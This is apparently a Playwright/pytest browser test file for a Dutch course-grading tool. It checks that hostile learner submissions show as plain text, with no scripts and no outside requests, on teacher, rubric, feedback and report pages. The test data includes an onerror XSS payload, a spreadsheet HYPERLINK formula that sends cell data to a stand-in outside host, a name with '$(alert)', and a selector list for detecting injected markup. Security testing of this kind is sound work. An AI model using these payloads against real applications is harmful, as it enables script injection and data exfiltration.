"""Text of learners is text on every page where a teacher or a learner meets it: no script, no link, no request to anyone, in Chromium."""

from __future__ import annotations

from datetime import date
from urllib.parse import urlsplit

import pytest

from leerlijn import grade, report, report_html
from tests.keten import GOED, MODULE, regels, released
from tests.vijandig.gevallen import FORMULE, MARKDOWN, MARKUP, STIJL, STUUR, TIJD

from .conftest import open_teacher

pytestmark = pytest.mark.browser
TEKSTEN = {"html": MARKUP, "markdown": MARKDOWN, "stijl": STIJL, "stuur": STUUR, "formule": FORMULE}
LETTERS = {"html": "onerror=", "markdown": "[y](data:text/html", "stijl": "position:fixed", "stuur": "omgekeerd", "formule": '=HYPERLINK("http://buiten.example/?"&A1,"klik")'}
RAAR = "o'b&c$(alert)"  # a name that is allowed
GEWEIGERD = "<img src=x onerror=window.stuk=1>"  # one that is not, but that the teacher has to read
KWAAD = "a[href*=javascript], a[href*=buiten], a[href^=data], img[src=x], img[src*=buiten], iframe, svg[onload], [onerror], [onload], style:has-text('display:none}x')"


@pytest.fixture(scope="module")
def keten(tmp_path_factory):
    with released(tmp_path_factory.mktemp("scherm")) as k:
        for wie, tekst in TEKSTEN.items():
            k.lever_met_de_hand(wie, regels({**GOED, "toets-feiten": [MARKUP], "toets-open": tekst}), TIJD)
        k.lever_met_de_hand(RAAR, regels(GOED), TIJD)
        k.lever_met_de_hand(GEWEIGERD, regels(GOED), TIJD)
        (verslag,) = grade.run(k.root, [MODULE], meld=lambda _: None)
        assert (verslag.nagekeken, len(verslag.geweigerd), verslag.mislukt) == (6, 1, [])
        yield k


@pytest.fixture
def dicht(page):
    """A page in a closed network: what is not on this machine is noted and cut off."""
    page.buiten = []

    def lijn(route):
        if urlsplit(route.request.url).hostname in ("127.0.0.1", "localhost", None):
            return route.continue_()
        page.buiten.append(route.request.url)
        route.abort()

    page.context.route("**/*", lijn)
    page.on("dialog", lambda d: (page.buiten.append(d.message), d.dismiss()))
    return page


@pytest.fixture
def docentpagina(dicht, adres):
    return open_teacher(dicht, adres)


def harmless(page):
    assert page.evaluate("window.stuk") is None
    assert page.locator(KWAAD).count() == 0
    assert page.buiten == []


def number(keten, wie):
    with keten.gradebook() as gb:
        return gb.find_submission_notebook("toets", MODULE, wie).id


@pytest.mark.parametrize("wie", sorted(TEKSTEN))
def test_formgraders_page_of_a_hand_in(keten, docentpagina, wie):
    page = docentpagina
    page.goto(f"{page.basis}/formgrader/submissions/{number(keten, wie)}/")
    artikel = page.locator("article[data-item=toets-open]")
    artikel.wait_for()
    assert LETTERS[wie] in artikel.inner_text()  # as letters
    assert page.locator("article a, article img, article script, article style, article [style]").count() == 0
    assert page.locator("article[data-item=toets-feiten]").get_by_text("Het antwoord heeft een vorm die niet bij de vraag hoort").count() == 1
    assert artikel.evaluate("e => getComputedStyle(e).position") == "static"
    harmless(page)


def test_formgraders_lists_and_records(keten, docentpagina):
    """Names in lists, in links that work, and in the record of collecting that formgrader shows after a click."""
    page = docentpagina
    for pad, tekst in (
        (f"manage_submissions/{MODULE}", RAAR), ("manage_students", RAAR), (f"gradebook/{MODULE}/toets", "Submission #"),
        (f"manage_students/{RAAR}", MODULE), (f"manage_students/{RAAR}/{MODULE}", "toets"),
    ):  # fmt: skip
        page.goto(f"{page.basis}/formgrader/{pad}")
        page.get_by_text(tekst).first.wait_for()
        harmless(page)
    page.goto(f"{page.basis}/formgrader/manage_assignments")
    page.locator("tr", has=page.get_by_role("link", name=MODULE, exact=True)).first.locator("td.collect a").click()
    venster = page.locator("#success-modal")
    venster.wait_for()
    assert f"GEWEIGERD: {GEWEIGERD}: dit kan geen naam van een deelnemer zijn" in venster.inner_text()
    harmless(page)


def test_pages_to_judge_by_rubric(keten, docentpagina):
    page = docentpagina
    page.goto(f"{page.basis}/leerlijn/beoordeel/{MODULE}/toets-open")
    page.locator(".inzending").first.wait_for()
    tekst = page.locator("main, body").first.inner_text()
    assert all(t in tekst for t in LETTERS.values())
    assert page.locator(".antwoord a, .antwoord img, .antwoord script, .antwoord style, .antwoord [style]").count() == 0
    harmless(page)


@pytest.mark.parametrize("wie", sorted(TEKSTEN))
def test_feedback_page(keten, dicht, wie):
    api = keten.api()
    assert (uitkomst := api.generate_feedback(MODULE, wie, force=True))["success"], uitkomst
    pad = keten.grading / "feedback" / wie / MODULE / "toets.html"
    dicht.goto(pad.as_uri())
    assert LETTERS[wie] in dicht.locator("section[data-item=toets-open]").inner_text()
    assert dicht.locator("article a, article img, article script, article style").count() == 0
    assert dicht.waarnemer.adressen == [pad.as_uri()] and dicht.waarnemer.klachten == []
    harmless(dicht)


def test_report_holds_no_text_and_no_name(keten, dicht, tmp_path):
    pad = tmp_path / "verslag.html"
    pad.write_text(report_html.render([report.of_module(keten.root, MODULE)], "Cursus <b>x</b>", date(2030, 1, 1)), "utf-8")
    dicht.goto(pad.as_uri())
    tekst = dicht.content()
    assert "Cursus &lt;b&gt;x&lt;/b&gt;" in tekst
    assert not [w for w in (*LETTERS.values(), RAAR, GEWEIGERD, "window.stuk") if w in tekst or w in dicht.locator("body").inner_text()]
    assert [u for u in dicht.waarnemer.adressen if not u.startswith(("file:", "data:"))] == []
    harmless(dicht)
